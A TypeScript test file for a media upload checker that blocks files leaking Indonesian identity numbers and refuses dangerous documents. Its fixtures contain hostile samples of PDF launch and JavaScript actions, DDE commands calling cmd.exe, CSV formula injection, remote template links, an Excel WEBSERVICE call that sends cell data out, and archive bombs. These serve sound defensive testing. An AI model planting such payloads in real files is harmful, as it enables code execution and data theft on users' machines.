import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { checkMedia } from '#src/guards/media.ts';
import { temporaryFolder } from '../../deploy/servers.ts';
import { archive, docx, pdf, xlsx } from './files.ts';

// Made-up number: the serial number 9999 is not issued in a kecamatan's daily series.
const nik = '1401015203909999';
const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;

/** What is found in a file of this name: "block" with its message, or the rules that warn. */
async function check(name: string, bytes: Uint8Array | string) {
  const dir = await temporaryFolder();
  await mkdir(dirname(join(dir, 'media', name)), { recursive: true });
  await writeFile(join(dir, 'media', name), bytes);
  return checkMedia(dir, `media/${name}`, new Set(['076220000']));
}

describe('an identity number is found', () => {
  const cases: [where: string, name: string, bytes: () => Uint8Array | string | Promise<Uint8Array>][] = [
    ['in a PDF', 'a.pdf', () => pdf({ content: `(NIK ${nik}) Tj` })],
    ['under a black box', 'a.pdf', () => pdf({ content: `(${nik}) Tj ET 0 0 0 rg 0 0 300 200 re f BT` })],
    ['in white on white', 'a.pdf', () => pdf({ content: `1 1 1 rg (${nik}) Tj` })],
    ['in pieces of a PDF', 'a.pdf', () => pdf({ content: `[(1401) 5 (0152) -3 (0390) (9999)] TJ` })],
    [
      'in pieces that are placed one by one',
      'a.pdf',
      () => pdf({ content: '(14010152) Tj 53.4 0 Td (03909999) Tj' }),
    ],
    [
      'in a note of a PDF',
      'a.pdf',
      () =>
        pdf({
          page: '/Annots[10 0 R]',
          objects: [`<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(${nik})>>`],
        }),
    ],
    [
      'in a form field of a PDF',
      'a.pdf',
      () =>
        pdf({
          catalog: '/AcroForm<</Fields[10 0 R]>>',
          page: '/Annots[10 0 R]',
          objects: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(n)/V(${nik})/Rect[0 0 99 9]>>`],
        }),
    ],
    [
      'in the properties of a PDF',
      'a.pdf',
      () => pdf({ objects: [`<</Title(${nik})>>`], trailer: '/Info 10 0 R' }),
    ],
    ['in a Word file', 'a.docx', () => docx([run(nik)])],
    ['cut into runs by Word', 'a.docx', () => docx([run('1401') + run('0152') + run('0390') + run('9999')])],
    ['in deleted text', 'a.docx', () => docx([`<w:del><w:r><w:delText>${nik}</w:delText></w:r></w:del>`])],
    ['in a comment', 'a.docx', () => docx([run('a')], { 'word/comments.xml': `<w:p>${run(nik)}</w:p>` })],
    ['in a footer', 'a.docx', () => docx([run('a')], { 'word/footer1.xml': `<w:p>${run(nik)}</w:p>` })],
    ['in hidden text', 'a.docx', () => docx([`<w:r><w:rPr><w:vanish/></w:rPr><w:t>${nik}</w:t></w:r>`])],
    [
      'in the properties of a Word file',
      'a.docx',
      () => docx([run('a')], { 'docProps/core.xml': `<dc:title>${nik}</dc:title>` }),
    ],
    ['written as entities', 'a.docx', () => docx([run(`&#49;${nik.slice(1)}`)])],
    ['as a number of Excel', 'a.xlsx', () => xlsx(`<c><v>1.401015203909999E15</v></c>`)],
    ['as plain digits of Excel', 'a.xlsx', () => xlsx(`<c><v>${nik}</v></c>`)],
    [
      'among the shared texts of Excel',
      'a.xlsx',
      () => xlsx('', { 'xl/sharedStrings.xml': `<sst><si><t>${nik}</t></si></sst>` }),
    ],
    ['on a hidden sheet', 'a.xlsx', () => xlsx('', { 'xl/worksheets/sheet9.xml': `<c><v>${nik}</v></c>` })],
    [
      'in a comment of Excel',
      'a.xlsx',
      () => xlsx('', { 'xl/comments1.xml': `<comment><text><t>${nik}</t></text></comment>` }),
    ],
    ['in a CSV table', 'a.csv', () => `nama,nik\nBudi,${nik}\n`],
    ['in the name of a file', `${nik}.csv`, () => 'a,b\n'],
    [
      'in what a camera wrote into a picture',
      'a.jpg',
      () =>
        sharp({ create: { width: 8, height: 8, channels: 3, background: '#c00' } })
          .withExif({ IFD0: { ImageDescription: `NIK ${nik}` } })
          .jpeg()
          .toBuffer(),
    ],
  ];
  test.for(cases)('%s', async ([, name, bytes]) => {
    const findings = await check(name, await bytes());
    expect(findings).toEqual([
      { message: expect.stringMatching(/^Berkas media\/.*NIK atau nomor KK \(1401…\)/) },
    ]);
  });
});

describe('refuses', () => {
  const again = /lalu unggah ulang$/;
  const cases: [what: string, name: string, bytes: () => Uint8Array | string, why: RegExp][] = [
    [
      'a PDF with a script',
      'a.pdf',
      () => pdf({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }),
      /skrip/,
    ],
    [
      'a PDF with named scripts',
      'a.pdf',
      () =>
        pdf({
          catalog: '/Names<</JavaScript<</Names[(a) 10 0 R]>>>>',
          objects: ['<</S/JavaScript/JS(app.alert(1))>>'],
        }),
      /skrip/,
    ],
    [
      'a PDF that starts a program',
      'a.pdf',
      () => pdf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
      /menjalankan|skrip/,
    ],
    [
      'a PDF whose page starts a program',
      'a.pdf',
      () => pdf({ page: '/AA<</O<</S/Launch/F(cmd.exe)>>>>' }),
      /menjalankan|skrip/,
    ],
    [
      'a PDF whose page has a script',
      'a.pdf',
      () => pdf({ page: '/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>' }),
      /skrip/,
    ],
    [
      'a PDF with a script behind a link',
      'a.pdf',
      () =>
        pdf({
          page: '/Annots[10 0 R]',
          objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(app.alert(1))>>>>'],
        }),
      /skrip/,
    ],
    [
      'a PDF with a program behind a link',
      'a.pdf',
      () =>
        pdf({
          page: '/Annots[10 0 R]',
          objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>'],
        }),
      /menjalankan/,
    ],
    [
      'a PDF with a script in compressed objects',
      'a.pdf',
      () => {
        const objects = deflateSync('12 0 <</S/Java#53cript/JS(app.alert(1))>>').toString('latin1');
        return pdf({
          objects: [
            `<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length ${objects.length}>> stream\n${objects}\nendstream`,
          ],
        });
      },
      /skrip/,
    ],
    [
      'a PDF that sends what is filled in',
      'a.pdf',
      () => pdf({ page: '/AA<</C<</S/SubmitForm/F(https://x.example)>>>>' }),
      /mengirim/,
    ],
    [
      'a PDF with a file in it',
      'a.pdf',
      () =>
        pdf({
          catalog: '/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>',
          objects: [
            '<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>',
            '<</Type/EmbeddedFile/Length 1>> stream\nx\nendstream',
          ],
        }),
      /berkas lain/,
    ],
    [
      'a PDF with a file pinned on',
      'a.pdf',
      () =>
        pdf({
          page: '/Annots[10 0 R]',
          objects: [
            '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>>>',
            '<</Type/EmbeddedFile/Length 1>> stream\nx\nendstream',
          ],
        }),
      /berkas lain/,
    ],
    [
      'a PDF that is an archive as well',
      'a.pdf',
      () => Buffer.concat([pdf(), archive({ 'a.txt': 'x' })]),
      /arsip ZIP/,
    ],
    [
      'a PDF with a program hidden behind a bracket in a comment',
      'a.pdf',
      () => pdf({ objects: ['<<>> %(', '<</S/Launch/F<636d64>>> %)'] }),
      /menjalankan/,
    ],
    [
      'a PDF with a program between the signs of a stream',
      'a.pdf',
      () => pdf({ objects: ['<<>> %stream', '<</S/Launch/F<636d64>>> %endstream'] }),
      /menjalankan/,
    ],
    [
      'a PDF with a program hidden behind a bracket that is never closed',
      'a.pdf',
      () => pdf({ catalog: '/OpenAction 12 0 R', objects: ['(', '<<>>', '<</S/Launch/F<636d64>>>'] }),
      /menjalankan/,
    ],
    [
      'a PDF with objects that are compressed otherwise',
      'a.pdf',
      () =>
        pdf({
          objects: [
            '<</Type/ObjStm/N 1/First 5/Filter/ASCIIHexDecode/Length 8>> stream\n3132203c>\nendstream',
          ],
        }),
      /tidak dapat diperiksa/,
    ],
    [
      'a PDF with compressed objects that unfold without end',
      'a.pdf',
      () => {
        const objects = deflateSync(Buffer.alloc(60_000_000, 32)).toString('latin1');
        return pdf({
          objects: [`<</Type/ObjStm/N 1/First 5/Filter/FlateDecode>> stream\n${objects}\nendstream`],
        });
      },
      /tidak dapat diperiksa/,
    ],
    [
      'a PDF that opens a file of another computer',
      'a.pdf',
      () => pdf({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\x.example\\\\a.pdf)/D[0 /Fit]>>' }),
      /berkas lain/,
    ],
    ['half a PDF', 'a.pdf', () => '%PDF-1.7\nhai', /utuh/],
    ['a Word file with macros', 'a.docx', () => docx([], { 'word/vbaProject.bin': 'x' }), /makro/],
    [
      'a Word file with macros of another name',
      'a.docx',
      () =>
        docx([], {
          '[Content_Types].xml':
            '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
      /makro/,
    ],
    [
      'an Excel file with a macro sheet',
      'a.xlsx',
      () => xlsx('', { 'xl/macrosheets/sheet1.xml': '<x/>' }),
      /makro/,
    ],
    [
      'a Word file with a file in it',
      'a.docx',
      () => docx([], { 'word/embeddings/oleObject1.bin': 'x' }),
      /berkas lain/,
    ],
    [
      'a Word file with a control',
      'a.docx',
      () => docx([], { 'word/activeX/activeX1.xml': '<x/>' }),
      /berkas lain/,
    ],
    [
      'a Word file with a template from elsewhere',
      'a.docx',
      () =>
        docx([], {
          'word/_rels/settings.xml.rels':
            '<Relationship Type="http://x/attachedTemplate" Target="https://x.example/a.dotm" TargetMode="External"/>',
        }),
      /alamat lain/,
    ],
    [
      'a Word file with a picture from elsewhere',
      'a.docx',
      () =>
        docx([], {
          'word/_rels/document.xml.rels':
            '<Relationship TargetMode="External" Type="http://x/image" Target="https://x.example/a.png"/>',
        }),
      /alamat lain/,
    ],
    [
      'a Word file with a template from elsewhere, written as entities',
      'a.docx',
      () =>
        docx([], {
          'word/_rels/settings.xml.rels':
            "<Relationship Type='http://x/attachedTemplate' Target='https://x.example/a.dotm' TargetMode='&#69;xternal'/>",
        }),
      /alamat lain/,
    ],
    [
      'a Word file with macros, written as entities',
      'a.docx',
      () =>
        docx([], {
          '[Content_Types].xml':
            '<Types><Default ContentType="application/vnd.ms-word.document.macro&#x45;nabled.main+xml"/></Types>',
        }),
      /makro/,
    ],
    [
      'a Word file with a page of HTML in it',
      'a.docx',
      () =>
        docx([], {
          'word/_rels/document.xml.rels': '<Relationship Type="http://x/aFChunk" Target="/word/a.mht"/>',
        }),
      /alamat lain/,
    ],
    ...['file://x.example/a', '\\\\x.example\\a', 'javascript:x', 'ms-msdt:x'].map(
      (target): [string, string, () => Uint8Array, RegExp] => [
        `a Word file with a link to ${target}`,
        'a.docx',
        () =>
          docx([], {
            'word/_rels/document.xml.rels': `<Relationship Type="http://x/hyperlink" Target="${target}" TargetMode="External"/>`,
          }),
        /tautan/,
      ],
    ),
    [
      'an Excel file that calls a server',
      'a.xlsx',
      () => xlsx('<c><f>_xlfn.WEBSERVICE("https://x.example/"&amp;A1)</f><v>1</v></c>'),
      /rumus/,
    ],
    [
      'a Word file with DDE',
      'a.docx',
      () => docx(['<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>']),
      /DDE/,
    ],
    [
      'an Excel file with DDE',
      'a.xlsx',
      () =>
        xlsx('', {
          'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        }),
      /DDE/,
    ],
    [
      'a Word file with entities of its own',
      'a.docx',
      () => docx([], { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>' }),
      /deklarasi XML/,
    ],
    ['an archive with names that lead out', 'a.docx', () => docx([], { '../../x.xml': 'x' }), /wajar/],
    [
      'an archive that unfolds without end',
      'a.docx',
      () => docx([], { 'word/media/a.xml': 'a'.repeat(130_000_000) }),
      /120 MB/,
    ],
    ['half an archive', 'a.docx', () => docx([run('hai')]).slice(0, 100), /utuh/],
    ['an archive of something else', 'a.xlsx', () => archive({ 'a.txt': 'x' }), /bukan lembar Excel/],
    [
      'a CSV table with a formula',
      'a.csv',
      () => 'a,b\n=HYPERLINK("https://x.example"),1\n',
      /rumus di baris 2/,
    ],
    ['a CSV table with a command', 'a.csv', () => `a;"@SUM(1+1)*cmd|' /C calc'!A0"\n`, /rumus di baris 1/],
    ['a CSV table with a sum', 'a.csv', () => 'a\n+1+cmd\n', /rumus di baris 2/],
  ];
  test.for(cases)('%s', async ([, name, bytes, why]) => {
    const [finding, ...others] = await check(name, bytes());
    expect(others).toEqual([]);
    expect(finding?.message).toMatch(why);
    expect(finding?.message).toMatch(again);
    expect(finding?.rule).toBeUndefined();
  });
});

describe('accepts', () => {
  const cases: [what: string, name: string, bytes: () => Uint8Array | string][] = [
    ['a PDF', 'a.pdf', () => pdf({ content: '(Nomor 123/PL.01.2-Kpt/1401/KPU-Kab/IX/2021) Tj' })],
    [
      'a PDF with a link',
      'a.pdf',
      () =>
        pdf({
          page: '/Annots[10 0 R]',
          objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://kpu.go.id)>>>>'],
        }),
    ],
    ['a PDF that opens on its page', 'a.pdf', () => pdf({ catalog: '/OpenAction[3 0 R /Fit]' })],
    [
      'a Word file with a link',
      'a.docx',
      () =>
        docx([run('Undangan')], {
          'word/_rels/document.xml.rels':
            '<Relationship Type="http://x/hyperlink" Target="https://kpu.go.id" TargetMode="External"/>',
        }),
    ],
    [
      'a PDF that speaks of scripts',
      'a.pdf',
      () =>
        pdf({
          content: '(/JavaScript dan /Launch) Tj',
          objects: ['<</Title(Bahaya /JS pada PDF)>>'],
          trailer: '/Info 10 0 R',
        }),
    ],
    ['a text that speaks of DDE', 'a.docx', () => docx([run('Serangan DDE lewat dokumen')])],
    ['figures of Excel', 'a.xlsx', () => xlsx('<c><v>601561</v></c><c><v>1.5E3</v></c><c><v>-12.5</v></c>')],
    ['a CSV table with negative numbers', 'a.csv', () => 'a,b,c\n-1,+2,"-3,5"\n-,+5%,0\n'],
    ['a CSV table with telephone numbers', 'a.csv', () => 'Kantor,+62 762 20000\n"KPU",(0762) 20000\n'],
    [
      'a PDF with brackets and per cent signs in its text',
      'a.pdf',
      () => pdf({ objects: ['<</Title(50% \\( \\) (dalam) /JS)>>'], trailer: '/Info 10 0 R' }),
    ],
    [
      'an Excel file with formulas',
      'a.xlsx',
      () => xlsx('<c><f>SUM(A1:A9)</f><v>12</v></c><c><f>IFERROR(A1/B1,0)</f><v>1</v></c>'),
    ],
    ['a telephone of the office', 'a.csv', () => 'Telepon,0762-20000\n'],
  ];
  test.for(cases)('%s', async ([, name, bytes]) => {
    expect(await check(name, bytes())).toEqual([]);
  });
});

test.for(
  Object.entries({
    'a PDF of streams': ['a.pdf', `%PDF-1.7\n${'stream\n'.repeat(300_000)}`],
    'a PDF of brackets': ['a.pdf', `%PDF-1.7\n${'('.repeat(2_000_000)}`],
    'a PDF of comments': ['a.pdf', `%PDF-1.7\n${'%'.repeat(2_000_000)}`],
    'a CSV table of blanks': ['a.csv', `a,${' '.repeat(2_000_000)}=1`],
    'a CSV table of quotation marks': ['a.csv', '" '.repeat(1_000_000)],
    'a Word file of less-than signs': ['a.docx', docx(['<'.repeat(2_000_000)])],
    'a Word file of fields': ['a.docx', docx(['<w:instrText '.repeat(150_000)])],
    'an Excel file of formulas': ['a.xlsx', xlsx('<f '.repeat(500_000))],
  } satisfies Record<string, [string, string | Uint8Array]>),
)('reads %s to its end', { timeout: 15_000 }, async ([, [name, bytes]]) => {
  expect(await check(name, bytes)).toBeInstanceOf(Array);
});

test('a mobile number in a file only warns', async () => {
  const findings = await check('a.docx', docx([run('Hubungi Budi 0812-3456-7890')]));
  expect(findings).toEqual([{ message: expect.stringContaining('0812…'), rule: 'nomor-ponsel' }]);
});

test('a list of many names is told in a few lines', async () => {
  const rows = Array.from({ length: 500 }, (_, i) => `Nama,14010152039${String(10_000 + i)}`);
  expect(await check('a.csv', rows.join('\n'))).toHaveLength(1);
});
